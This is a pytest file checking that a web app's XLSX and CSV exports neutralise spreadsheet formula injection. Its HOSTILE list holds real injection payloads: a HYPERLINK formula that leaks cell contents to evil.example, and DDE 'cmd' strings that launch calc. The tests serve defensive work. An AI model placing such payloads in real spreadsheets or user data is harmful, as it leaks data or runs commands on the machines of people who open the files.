"""Exports carry user text as text: no formula cell in XLSX, formula-like CSV cells neutralised."""

from __future__ import annotations

import csv
import io
import zipfile
from xml.etree import ElementTree

import pytest
from openpyxl.utils.escape import unescape

from app.core.spreadsheets import csv_cell
from app.extensions import db
from app.orgs.models import OrgKind
from tests import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def ledger(app, login_as):
    login_as("organiser")
    department = factories.organisation(OrgKind.department, name="=税务局")
    for n, text in enumerate(HOSTILE):
        enterprise = factories.organisation(name=f"@企业{n}")
        factories.problem(enterprise, description=text, status="resolved", department=department, resolution=text)
    db.session.commit()


NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def sheet_cells(body: bytes) -> list[ElementTree.Element]:
    """Every <c> element of every worksheet in the workbook."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        names = [name for name in archive.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")]
        return [cell for name in names for cell in ElementTree.fromstring(archive.read(name)).iter(f"{NS}c")]


@pytest.mark.parametrize("path", ["/problems/export.xlsx", "/dashboard/export.xlsx?all=1"])
def test_xlsx_has_no_formula_cell_and_keeps_the_literal_text(client, ledger, path):
    response = client.get(path)
    assert response.status_code == 200
    cells = sheet_cells(response.data)
    assert cells
    assert [cell for cell in cells if cell.find(f"{NS}f") is not None or cell.get("t") == "str"] == []
    # Control characters are stored as OOXML escapes (CR as _x000D_), decoded as Excel, WPS and openpyxl do.
    texts = {unescape("".join(cell.itertext())) for cell in cells if cell.get("t") in ("inlineStr", "s")}
    if path.startswith("/problems"):
        for value in HOSTILE:
            assert value.replace("\r", "\n") in texts or value in texts, value
        assert "@企业0" in texts and "=税务局" in texts


def test_csv_cells_that_would_start_a_formula_get_an_apostrophe(client, ledger):
    response = client.get("/problems/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    for value in HOSTILE:
        assert "'" + value in cells, value
        assert value not in cells
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert any(cell == "'@企业0" for cell in cells) and any(cell == "'=税务局" for cell in cells)


def test_numbers_are_not_touched():
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell("普通文本") == "普通文本"
    assert csv_cell("-3") == "'-3"
